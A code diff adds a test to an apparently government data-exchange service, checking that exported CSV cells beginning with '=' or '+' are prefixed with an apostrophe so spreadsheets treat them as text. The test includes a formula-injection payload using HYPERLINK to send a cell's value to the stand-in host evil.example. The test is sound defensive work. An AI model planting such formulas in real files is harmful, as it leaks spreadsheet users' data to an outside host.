@@ -547,3 +547,19 @@ def test_a_refusal_names_what_was_tried_and_whose_it_is(as_role, datasets):
     read = [e["entry"] for e in logged if e["entry"]["object"] == "audit"][-1]
     assert "provider" not in read and "target" not in read
     assert read["actor_department"] == "market"
+
+
+def test_a_delivered_csv_runs_no_formula_a_citizen_wrote(as_role):
+    """A complaint that starts with = reaches the receiving officer's spreadsheet as text."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
+    data = ("编号,备注\nA1," + '"' + formula.replace('"', '""') + '"\nA2,+1+1\nA3,-12.5\n').encode()
+    made = _publish(as_role("market-steward"), data, {
+        "title": "公式测试", "sharing": "unconditional", "level": "L1"}).get_json()
+    requester = as_role("civil-requester")
+    asked = requester.post("/api/v1/requests", json={
+        "dataset_id": made["id"], "purpose": "测试", "columns": ["编号", "备注"]}).get_json()
+    done = requester.post(f"/api/v1/grants/{asked['grant_id']}/exchanges",
+                          json={"format": "csv"}).get_json()
+    rows = list(csv.DictReader(io.StringIO(
+        requester.get(done["data_url"]).get_data(as_text=True))))
+    assert [r["备注"] for r in rows] == ["'" + formula, "'+1+1", "-12.5"]
